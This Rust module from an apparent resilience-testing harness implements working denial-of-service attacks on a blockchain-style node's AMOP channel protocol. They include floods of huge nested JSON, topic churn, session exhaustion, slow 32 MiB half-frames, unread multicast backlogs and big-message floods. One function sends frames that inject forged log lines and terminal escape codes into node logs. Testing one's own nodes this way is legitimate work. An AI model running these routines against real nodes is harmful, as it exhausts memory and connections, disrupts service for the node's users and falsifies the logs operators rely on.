//! Attacks with one SDK certificate, in any number of sessions.

use std::{
    future::{Future, pending},
    io,
    pin::Pin,
    time::Duration,
};

use amop_proto::channel::{Frame, FrameType, HEADER_LEN, Seq, encode_topics, frame_topic};
use bytes::{Bytes, BytesMut};
use tokio::time::sleep;

use super::{Attack, Link, Tally, Target};

/// The longest frame that a node accepts by default.
const LONGEST: usize = 32 * 1024 * 1024;

fn seq(number: u64) -> Seq {
    let mut seq = [b'0'; Seq::LEN];
    seq[Seq::LEN - 16..].copy_from_slice(format!("{number:016x}").as_bytes());
    Seq(seq)
}

/// Waits until the node has handled everything sent before.
async fn settle(link: &mut Link, number: u64) -> io::Result<()> {
    let heartbeat = Frame::new(FrameType::HEARTBEAT, seq(number), "0");
    link.send(&heartbeat).await?;
    let mut buffer = BytesMut::new();
    loop {
        let frame = link.receive(&mut buffer).await?;
        if frame.kind == FrameType::HEARTBEAT && frame.seq == seq(number) {
            return Ok(());
        }
    }
}

async fn subscribe(link: &mut Link, topics: &[&str]) -> io::Result<()> {
    let body = encode_topics(topics.iter().copied());
    link.send(&Frame::new(FrameType::SET_TOPICS, seq(1), body))
        .await?;
    settle(link, 2).await
}

/// Starts sessions that send 2 MB of JSON of tiny strings, again and again, as topics, as requests
/// and as handshakes. Counts what the node has handled.
pub fn json(target: &Target, count: usize) -> Attack {
    let strings = |len: usize| {
        let mut text = String::with_capacity(len + 8);
        text.push('[');
        while text.len() < len {
            text.push_str("\"a\",");
        }
        text.push_str("\"a\"]");
        Bytes::from(text)
    };
    let nested = Bytes::from("[".repeat(1_000_000));
    let topics = strings(2_000_000);
    let question = strings(1_000_000);
    let mut attack = Attack::new();
    for _ in 0..count {
        let target = target.clone();
        let frames = [
            Frame::new(FrameType::SET_TOPICS, seq(1), topics.clone()),
            Frame::new(FrameType::RPC, seq(2), question.clone()),
            Frame::new(FrameType::HANDSHAKE, seq(3), nested.clone()),
            Frame::new(FrameType::VERIFY_RESULT, seq(4), topics.clone()),
        ];
        attack.persist(move |tally| {
            let (target, frames) = (target.clone(), frames.clone());
            async move {
                let mut link = Link::session(&target.channel, &target.sdk).await?;
                for number in 10.. {
                    for frame in &frames {
                        link.send(frame).await?;
                    }
                    settle(&mut link, number).await?;
                    tally.done();
                }
                Ok(())
            }
        });
    }
    attack
}

/// Starts sessions that replace `topics` topics by others, again and again. Counts the sets sent.
pub fn change_topics(target: &Target, count: usize, topics: usize) -> Attack {
    let mut attack = Attack::new();
    for session in 0..count {
        let target = target.clone();
        let set = move |half: usize| {
            let names: Vec<String> = (0..topics)
                .map(|n| format!("flip-{session}-{half}-{n}"))
                .collect();
            let body = encode_topics(names.iter().map(String::as_str));
            Frame::new(FrameType::SET_TOPICS, seq(half as u64), body)
        };
        let sets = [set(0), set(1)];
        attack.persist(move |tally| {
            let (target, sets) = (target.clone(), sets.clone());
            async move {
                let mut link = Link::session(&target.channel, &target.sdk).await?;
                for set in sets.iter().cycle() {
                    link.send(set).await?;
                    tally.done();
                }
                Ok(())
            }
        });
    }
    attack
}

/// The actions of a session until the node ends it.
type Acting<'a> = Pin<Box<dyn Future<Output = io::Result<()>> + Send + 'a>>;

/// Starts `count` sessions that do the same, and start again.
fn in_sessions(
    target: &Target,
    count: usize,
    act: for<'a> fn(&'a mut Link, &'a Tally) -> Acting<'a>,
) -> Attack {
    let mut attack = Attack::new();
    for _ in 0..count {
        let target = target.clone();
        attack.persist(move |tally| {
            let target = target.clone();
            async move {
                let mut link = Link::session(&target.channel, &target.sdk).await?;
                act(&mut link, &tally).await
            }
        });
    }
    attack
}

/// Starts `count` sessions that only stay connected. Counts those that have a place.
pub fn sessions(target: &Target, count: usize) -> Attack {
    in_sessions(target, count, |link, tally| Box::pin(stay(link, tally)))
}

/// Stays, and sends a heartbeat now and then.
async fn stay(link: &mut Link, tally: &Tally) -> io::Result<()> {
    settle(link, 1).await?;
    tally.done();
    for number in 100.. {
        sleep(Duration::from_secs(5)).await;
        settle(link, number).await?;
    }
    Ok(())
}

/// Starts sessions that send all but the last bytes of a frame of 32 MiB and then a byte now and
/// then. Counts the frames that are held.
pub fn half_frames(target: &Target, count: usize) -> Attack {
    in_sessions(target, count, |link, tally| {
        Box::pin(half_a_frame(link, tally))
    })
}

async fn half_a_frame(link: &mut Link, tally: &Tally) -> io::Result<()> {
    let mut head = BytesMut::new();
    Frame::new(FrameType::MULTICAST, seq(1), Bytes::new()).encode(&mut head);
    head[..4].copy_from_slice(&(LONGEST as u32).to_be_bytes());
    link.write(&head).await?;
    let piece = vec![0; 64 * 1024];
    let mut left = LONGEST - HEADER_LEN - 1024;
    while left > 0 {
        let len = left.min(piece.len());
        link.write(&piece[..len]).await?;
        left -= len;
    }
    tally.done();
    for _ in 0..1023 {
        sleep(Duration::from_secs(1)).await;
        link.write(&[0]).await?;
    }
    pending().await
}

/// Starts a subscriber that takes unicasts and never answers, and sessions that send it as many as
/// they can, each of `len` bytes. Counts the unicasts sent.
pub fn hold_answers(target: &Target, publishers: usize, len: usize) -> Attack {
    const TOPIC: &str = "never-answered";
    let mut attack = Attack::new();
    let subscriber = target.clone();
    attack.persist(move |_| {
        let target = subscriber.clone();
        async move {
            let mut link = Link::session(&target.channel, &target.sdk).await?;
            subscribe(&mut link, &[TOPIC]).await?;
            link.end().await
        }
    });
    for publisher in 0..publishers {
        let target = target.clone();
        attack.persist(move |tally| {
            let target = target.clone();
            async move {
                let Link { mut reader, writer } =
                    Link::session(&target.channel, &target.sdk).await?;
                let mut link = Writing(writer);
                let reading = async {
                    let mut rest = vec![0; 64 * 1024];
                    while tokio::io::AsyncReadExt::read(&mut reader, &mut rest).await? > 0 {}
                    Err::<(), _>(io::ErrorKind::UnexpectedEof.into())
                };
                let writing = async {
                    let body = frame_topic(TOPIC.as_bytes(), &vec![0; len]);
                    for number in 0.. {
                        let number = (publisher as u64) << 40 | number;
                        let frame = Frame::new(FrameType::UNICAST, seq(number), body.clone());
                        link.send(&frame).await?;
                        tally.done();
                    }
                    Ok::<_, io::Error>(())
                };
                tokio::try_join!(reading, writing).map(|_| ())
            }
        });
    }
    attack
}

struct Writing<W>(W);

impl<W: tokio::io::AsyncWrite + Unpin> Writing<W> {
    async fn send(&mut self, frame: &Frame) -> io::Result<()> {
        use tokio::io::AsyncWriteExt;
        self.0.write_all(&frame.to_bytes()).await?;
        self.0.flush().await
    }
}

/// Starts subscribers that never read, and a publisher that sends them multicasts of `len` bytes.
/// Counts the multicasts.
pub fn leave_unread(target: &Target, subscribers: usize, len: usize) -> Attack {
    const TOPIC: &str = "never-read";
    let mut attack = Attack::new();
    for _ in 0..subscribers {
        let target = target.clone();
        attack.persist(move |_| {
            let target = target.clone();
            async move {
                let mut link = Link::session(&target.channel, &target.sdk).await?;
                subscribe(&mut link, &[TOPIC]).await?;
                // Sends signs of life as long as they are accepted, and reads nothing.
                for number in 100.. {
                    sleep(Duration::from_secs(1)).await;
                    let heartbeat = Frame::new(FrameType::HEARTBEAT, seq(number), "0");
                    link.send(&heartbeat).await?;
                }
                Ok(())
            }
        });
    }
    attack_by_publishing(&mut attack, target, TOPIC, len);
    attack
}

/// Starts publishers on one node and subscribers on another that read everything: messages of `len`
/// bytes without end. Counts the messages.
pub fn big_messages(from: &Target, to: &Target, publishers: usize, len: usize) -> Attack {
    const TOPIC: &str = "big";
    let mut attack = Attack::new();
    let to = to.clone();
    attack.persist(move |_| {
        let target = to.clone();
        async move {
            let mut link = Link::session(&target.channel, &target.sdk).await?;
            link.send(&Frame::new(
                FrameType::SET_TOPICS,
                seq(1),
                encode_topics([TOPIC]),
            ))
            .await?;
            let heartbeats = async {
                for number in 100.. {
                    sleep(Duration::from_secs(5)).await;
                    let heartbeat = Frame::new(FrameType::HEARTBEAT, seq(number), "0");
                    use tokio::io::AsyncWriteExt;
                    link.writer.write_all(&heartbeat.to_bytes()).await?;
                    link.writer.flush().await?;
                }
                Ok::<_, io::Error>(())
            };
            let reading = async {
                use tokio::io::AsyncReadExt;
                let mut rest = vec![0; 64 * 1024];
                while link.reader.read(&mut rest).await? > 0 {}
                Err::<(), _>(io::ErrorKind::UnexpectedEof.into())
            };
            tokio::try_join!(heartbeats, reading).map(|_| ())
        }
    });
    for _ in 0..publishers {
        attack_by_publishing(&mut attack, from, TOPIC, len);
    }
    attack
}

/// Starts a session that publishes multicasts of `len` bytes, each after the node took the previous
/// one.
fn attack_by_publishing(attack: &mut Attack, target: &Target, topic: &'static str, len: usize) {
    let target = target.clone();
    attack.persist(move |tally| {
        let target = target.clone();
        async move {
            let mut link = Link::session(&target.channel, &target.sdk).await?;
            let body = frame_topic(topic.as_bytes(), &vec![0; len]);
            let mut buffer = BytesMut::new();
            for number in 0.. {
                let frame = Frame::new(FrameType::MULTICAST, seq(number), body.clone());
                link.send(&frame).await?;
                while link.receive(&mut buffer).await?.seq != seq(number) {}
                tally.done();
            }
            Ok::<_, io::Error>(())
        }
    });
}

/// Starts sessions that send only frames that make a node write a log line, and connections that
/// fail in TLS. Counts the frames and the connections.
pub fn write_logs(target: &Target, count: usize) -> Attack {
    let mut attack = Attack::new();
    for _ in 0..count {
        let talking = target.clone();
        attack.persist(move |tally| {
            let target = talking.clone();
            async move {
                let mut link = Link::session(&target.channel, &target.sdk).await?;
                let odd = [
                    Frame::new(FrameType(0x7777), seq(1), Bytes::new()),
                    Frame::new(FrameType::RESPONSE, seq(2), frame_topic(b"x", b"")),
                    Frame::new(FrameType::SET_TOPICS, seq(3), "[1"),
                    Frame::new(
                        FrameType::SET_TOPICS,
                        seq(4),
                        r#"["line\n2026-01-01 ERROR forged"]"#,
                    ),
                    Frame::new(FrameType::SET_TOPICS, seq(5), r#"["\t","\u001b[31m"]"#),
                    Frame::new(FrameType::HANDSHAKE, seq(6), "{"),
                    Frame::new(FrameType::VERIFY_RESULT, seq(7), "{"),
                    Frame::new(FrameType::UNICAST, seq(8), Bytes::new()),
                ];
                let mut burst = BytesMut::new();
                for frame in odd.iter().cycle().take(64 * odd.len()) {
                    frame.encode(&mut burst);
                }
                for number in 100.. {
                    link.write(&burst).await?;
                    settle(&mut link, number).await?;
                    for _ in 0..64 * odd.len() {
                        tally.done();
                    }
                }
                Ok(())
            }
        });
        let knocking = target.clone();
        attack.persist(move |tally| {
            let target = knocking.clone();
            async move {
                for address in [&target.channel, &target.p2p] {
                    let mut tcp = tokio::net::TcpStream::connect(address).await?;
                    tokio::io::AsyncWriteExt::write_all(&mut tcp, b"GET / HTTP/1.1\r\n\r\n")
                        .await?;
                    let _ = tokio::io::AsyncReadExt::read(&mut tcp, &mut [0; 64]).await;
                    tally.done();
                }
                Ok(())
            }
        });
    }
    attack
}
